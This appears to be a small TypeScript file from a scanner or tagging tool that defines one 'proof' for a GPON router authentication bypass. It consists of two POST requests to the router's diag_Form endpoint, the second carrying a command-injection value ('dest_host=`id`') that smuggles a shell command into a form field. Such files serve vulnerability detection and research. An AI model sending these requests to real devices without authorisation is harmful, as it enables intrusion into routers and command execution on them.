import { type Proof, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'gpon-auth-bypass',
    post('/GponForm/diag_Form?images/', 'x'),
    post('/GponForm/diag_Form', 'dest_host=`id`'),
  ),
]
